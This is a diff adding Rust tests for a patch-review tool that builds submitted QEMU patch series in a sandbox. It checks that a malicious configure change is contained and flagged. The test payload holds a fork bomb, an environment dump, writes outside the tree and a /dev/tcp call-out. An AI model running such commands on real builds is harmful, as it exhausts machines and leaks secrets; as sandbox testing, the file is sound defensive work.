@@ -1,0 +1,99 @@
+//! `review` of a series that means ill: it gets nowhere, and is told of.
+
+use std::fs;
+use std::net::TcpListener;
+
+use crate::world::World;
+
+/// What a patch adds to `configure`: it writes outside, calls home, takes the
+/// environment along, and forks without end.
+const ILL: &str = r#"
+echo owned > ../src/owned
+echo owned > OUTSIDE
+(exec 3<> /dev/tcp/127.0.0.1/PORT && echo connected > connected)
+env > environment
+bomb() { bomb | bomb & }
+(bomb) 2> bomb.log &
+for ((i = 0; i < 500000; i++)); do :; done
+read -r line < bomb.log
+echo "$line"
+exit 0
+"#;
+
+#[test]
+fn a_series_that_means_ill_gets_nowhere_and_the_verdict_on_the_rest_comes() {
+    let world = World::new(&["a = fail", "b = fail", "c = pass"]);
+    let home = TcpListener::bind("127.0.0.1:0").unwrap();
+    home.set_nonblocking(true).unwrap();
+    let outside = world.path("outside");
+    fs::create_dir(&outside).unwrap();
+    let ill = ILL
+        .replace("OUTSIDE", outside.join("owned").to_str().unwrap())
+        .replace("PORT", &home.local_addr().unwrap().port().to_string());
+    world.change("target/i386: svm: change 1", "a = fail", "a = pass");
+    let configure = fs::read_to_string(world.path("qemu/configure")).unwrap();
+    let configure = configure.replace("#!/bin/sh", "#!/bin/bash") + &ill;
+    world.file("configure: be nice", "configure", &configure);
+    world.change("target/i386: svm: change 3", "b = fail", "b = pass");
+    let mbox = world.mbox();
+    world.to_base();
+
+    let (code, said) = world.review_with(&mbox, &[], &[("SECRET_TOKEN", "hunter2")]);
+
+    assert_eq!(code, 0, "{said}");
+    for test in ["a", "b"] {
+        assert!(said.contains(&format!("kut/svm/{test} fail -> pass")), "{said}");
+    }
+    let first = said.lines().find(|l| l.starts_with('!')).unwrap();
+    assert_eq!(first, "! RUNS at build or test time, patch 2: configure");
+    assert!(said.contains("REFUSED") && said.contains("Read-only file system"), "{said}");
+    assert!(!said.contains("hunter2"), "{said}");
+    assert!(fs::read_dir(&outside).unwrap().next().is_none(), "it wrote outside");
+    assert!(home.accept().is_err(), "it reached the network");
+    let trees: Vec<_> = fs::read_dir(world.path("cache/trees-apart")).unwrap().flatten().collect();
+    assert_eq!(trees.len(), 1);
+    let build = trees[0].path().join("build");
+    assert!(!trees[0].path().join("src/owned").exists() && !build.join("connected").exists());
+    let environment = fs::read_to_string(build.join("environment")).unwrap();
+    assert!(environment.contains("PATH=") && !environment.contains("SECRET"), "{environment}");
+    let ours = world.path("cache/trees");
+    let ours: Vec<_> = fs::read_dir(ours).unwrap().flatten().collect();
+    assert!(!ours[0].path().join("build/environment").exists(), "it got into the trees of others");
+}
+
+#[test]
+fn without_a_sandbox_the_same_runs_with_all_that_one_may_do() {
+    let world = World::new(&["a = fail"]);
+    world.change("target/i386: svm: change 1", "a = fail", "a = pass");
+    let configure = fs::read_to_string(world.path("qemu/configure")).unwrap();
+    let proof = world.path("proof");
+    let line = format!("echo owned > {}\n", proof.display());
+    world.file("configure: be nice", "configure", &(configure + &line));
+    let mbox = world.mbox();
+    world.to_base();
+    let (code, said) = world.review(&mbox, &["--no-sandbox"]);
+    assert_eq!(code, 0, "{said}");
+    assert!(proof.exists() && said.contains("RUNS at build or test time, patch 2: configure"));
+    assert!(!world.path("cache/trees-apart").exists());
+}
+
+#[test]
+fn where_no_sandbox_can_be_had_nothing_of_the_series_runs() {
+    let world = World::new(&["a = fail"]);
+    world.change("target/i386: svm: change 1", "a = fail", "a = pass");
+    let mbox = world.mbox();
+    world.to_base();
+    // A bubblewrap that finds no namespaces.
+    world.put(
+        "bin/bwrap",
+        "#!/bin/sh\necho 'bwrap: No permissions to create new namespace' >&2; exit 1\n",
+    );
+    world.executable("bin/bwrap");
+    let path = format!("{}:{}", world.path("bin").display(), std::env::var("PATH").unwrap());
+    let (code, said) = world.review_with(&mbox, &[], &[("PATH", &path)]);
+    assert_eq!(code, 3, "{said}");
+    assert!(said.contains("no sandbox can be had on this machine"), "{said}");
+    assert!(said.contains("No permissions to create new namespace"), "{said}");
+    assert!(said.contains("--no-sandbox"), "{said}");
+    assert_eq!(world.builds(), 1, "the base only");
+}
